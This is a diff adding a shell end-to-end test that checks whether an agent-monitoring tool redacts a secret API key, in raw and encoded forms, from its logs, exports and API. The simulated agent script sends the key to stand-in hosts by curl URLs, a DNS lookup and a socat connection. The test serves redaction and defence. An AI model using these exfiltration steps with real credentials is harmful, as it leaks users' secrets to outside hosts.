@@ -26,6 +26,7 @@ group_secrets() {
 	secrets_found
 	secrets_sent
 	secrets_reflected
+	inside secrets_recorded
 	inside secrets_brokers
 }
 
@@ -135,6 +136,91 @@ END
 
 leash_events_urls() {
 	as_user "$LEASH" events --json | jq -r '.url // empty'
+}
+
+# Everything that can be had of a session: its files, what the commands say of it, and what its API answers.
+what_is_told() {
+	local id=${1##*/}
+	cat "$1"/*
+	as_user "$LEASH" events --json "$id"
+	as_user "$LEASH" events "$id"
+	as_user "$LEASH" export --jsonl "$id"
+	as_user "$LEASH" export --otlp "$id"
+	as_user "$LEASH" sessions --json
+	cat "$T/answers" "$ERR"
+}
+
+# The API's answers, and what comes over its WebSocket while the session runs.
+ask_api() {
+	as_user env PYTHONDONTWRITEBYTECODE=1 PYTHONPATH="$T" python3 -c '
+import api, json, sys
+a = api.Api(18097, api.token_of(18097))
+live = api.WebSocket(a, "/api?since=0")
+said = live.until(lambda m: any(e["kind"] == "proc.exec" and "the-last" in e.get("argv", ()) for e in api.events_of([m])), 60)
+said += [a.get(p).body.decode() for p in ("/api/session", "/api/events?limit=1000", "/api/policies", "/api/policies/suggest", "/metrics")]
+print(json.dumps(said))' >"$T/answers"
+}
+
+# SEC-06: the agent found the value elsewhere. What it does with it is in the log, and the value is not.
+secrets_recorded() {
+	local form directory told=$T/told
+	declare -A forms=()
+	install -m 644 "$ROOT/tests/e2e/support/api.py" "$T/api.py"
+	printf '%s' "$KEY" | user_file "$WORK/found"
+	forms[raw]=$KEY
+	forms[base64]=$(printf '%s' "$KEY" | base64 -w 0)
+	forms[shifted]=$(printf 'x%s' "$KEY" | base64 -w 0)
+	forms[base64url]=$(printf '%s' "$KEY" | base64 -w 0 | tr '+/' '-_' | tr -d '=')
+	forms[hex]=$(printf '%s' "$KEY" | xxd -p -c 0)
+	forms[HEX]=${forms[hex]^^}
+	forms[percent]=$(sed 's/../%&/g' <<<"${forms[hex]}")
+	user_file "$WORK/agent.sh" <<-'END'
+		exec >/dev/null 2>&1
+		curl() { command curl -sS --max-time 8 "$@"; }
+		key=$(cat found)
+		for form; do
+			/bin/true "$form" "--key=$form" "Bearer $form." "${form%?}"
+			cat "no-$form"
+			curl "http://permitted.test:8090/v1/$form" "http://permitted.test:8090/v1/x?k=$form" "http://permitted.test:8090/$form/x"
+			curl -X "$form" -A "$form" -d "$form" http://permitted.test:8090/v1/x
+		done
+		cp /bin/true "$key"
+		"./$key"
+		mkdir "in-$key"
+		mv found "in-$key/found"
+		(cd "in-$key" && /bin/true && cat ./found)
+		mv "in-$key/found" found
+		getent hosts "$key.forbidden.test"
+		curl "http://$key.forbidden.test/"
+		socat -t 2 - "TCP:$key.other.test:8090" </dev/null
+		/bin/true no-secret-here
+		/bin/true the-last
+		sleep 2
+	END
+	leash_start -l 18097 -- /bin/sh agent.sh "${forms[@]}"
+	ask_api
+	leash_wait
+	directory=$(session_directory)
+	what_is_told "$directory" >"$told" 2>&1
+	check "SEC-06 the API was asked" grep -q the-last "$T/answers"
+	for form in "${!forms[@]}"; do
+		is "SEC-06 what is told of a session has no value ($form)" "$(grep -acF -e "${forms[$form]}" -e "${forms[$form]%?}" "$told")" 0
+	done
+	is "SEC-06 ... in small letters, as hosts are written" "$(grep -acF -e "${KEY,,}" "$told")" 0
+	is "SEC-06 ... and not the beginning of it, as a process's name has it" "$(grep -acF "${KEY:0:12}" "$told")" 0
+	check_event "SEC-06 arguments say whose value was there" \
+		'.kind == "proc.exec" and .redacted and (.argv | index("--key=[secret API_KEY]"))'
+	check_event "SEC-06 ... and the command's own" '.kind == "session.start" and .redacted and (.argv | index("[secret API_KEY]"))'
+	check_event "SEC-06 ... a path" '.kind == "file.open" and .redacted and .path == $p' --arg p "$WORK/in-[secret API_KEY]/found"
+	check_event "SEC-06 ... a program" '.kind == "proc.exec" and .path == $p' --arg p "$WORK/[secret API_KEY]"
+	check_event "SEC-06 ... its directory" '.cwd == $p' --arg p "$WORK/in-[secret API_KEY]"
+	check_event "SEC-06 ... a URL" '.kind == "http.request" and .redacted and .url == "http://permitted.test:8090/v1/[secret API_KEY]"'
+	check_event "SEC-06 ... a host" '.kind == "dns.query" and .redacted and .host == "[secret API_KEY].forbidden.test"'
+	check_event "SEC-06 other records are as they were" '.kind == "proc.exec" and (.redacted | not) and (.argv | index("no-secret-here"))'
+	check "SEC-06 ... session.json" jq -e '.command | index("[secret API_KEY]")' "$directory/session.json"
+	like "SEC-06 leash events says so" "$(as_user "$LEASH" events --kind proc.exec)" "a secret's value was left out"
+	check "SEC-06 the chain is over what is kept" as_user "$LEASH" verify "${directory##*/}"
+	rm -rf -- "$WORK"/*
 }
 
 # SEC-05: who would hand out keys of the user's.
